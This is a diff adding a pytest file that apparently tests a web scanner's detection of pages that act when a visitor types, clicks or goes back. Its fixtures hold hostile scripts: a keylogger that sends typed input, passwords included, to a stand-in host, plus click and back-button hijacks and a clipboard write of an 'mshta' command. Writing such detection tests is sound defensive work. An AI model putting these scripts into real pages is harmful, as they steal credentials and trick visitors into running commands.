@@ -1,0 +1,52 @@
+"""What pages do once somebody types, clicks where nothing is, goes back."""
+
+from __future__ import annotations
+
+import pytest
+
+from scanner.fetch.provoked import provoked
+from scanner.model import Visitor
+from tests.conftest import answering
+
+pytestmark = [pytest.mark.browser, pytest.mark.long]
+URL = "https://www.example.gov.cn/"
+AWAY = "https://lucky.test/"
+DONE = {
+    "typed": (
+        "<input name=u><input type=password name=p><script>document.querySelectorAll('input').forEach(i=>"
+        f"i.addEventListener('input',()=>{{new Image().src='{AWAY}?'+btoa(i.name+i.value)}}))</script>",
+        {"typed"},
+    ),
+    "window": (f"<p>x</p><script>document.addEventListener('click',()=>open('{AWAY}'))</script>", {"click-window"}),
+    "move": (f"<p>x</p><script>document.body.onmousedown=()=>{{location='{AWAY}'}}</script>", {"click-move"}),
+    "back": (
+        "<p>x</p><script>history.pushState(1,'','#a');addEventListener('popstate',()=>{"
+        f"location.replace('{AWAY}')}})</script>",
+        {"back-move"},
+    ),
+    "copied": ("<p>x</p><script>document.onclick=()=>navigator.clipboard.writeText('mshta x')</script>", {"clipboard"}),
+}
+QUIET = (
+    "<form><input name=q><input type=password></form><a href='https://other.test/'>x</a><p>x</p><script>"
+    "document.onclick=()=>{menu=0};document.querySelector('[name=q]').oninput=e=>fetch('/suggest?q='+e.target.value)</script>"
+)
+
+
+def touched(run, browser, html):
+    async def touch():
+        async with browser.visit(URL, Visitor.DESKTOP, replay=answering({URL: html})) as visit:
+            return await provoked(visit)
+
+    return run(touch())
+
+
+@pytest.mark.parametrize("name", DONE)
+def test_what_a_touch_brings_about_is_taken_down(run, browser, name):
+    html, kinds = DONE[name]
+    deeds = touched(run, browser, html)
+    assert kinds <= {deed.kind for deed in deeds}
+    assert all("lucky.test" in deed.text for deed in deeds if deed.kind != "clipboard")
+
+
+def test_an_ordinary_page_does_nothing(run, browser):
+    assert [deed for deed in touched(run, browser, QUIET) if "example.gov.cn" not in deed.text] == []
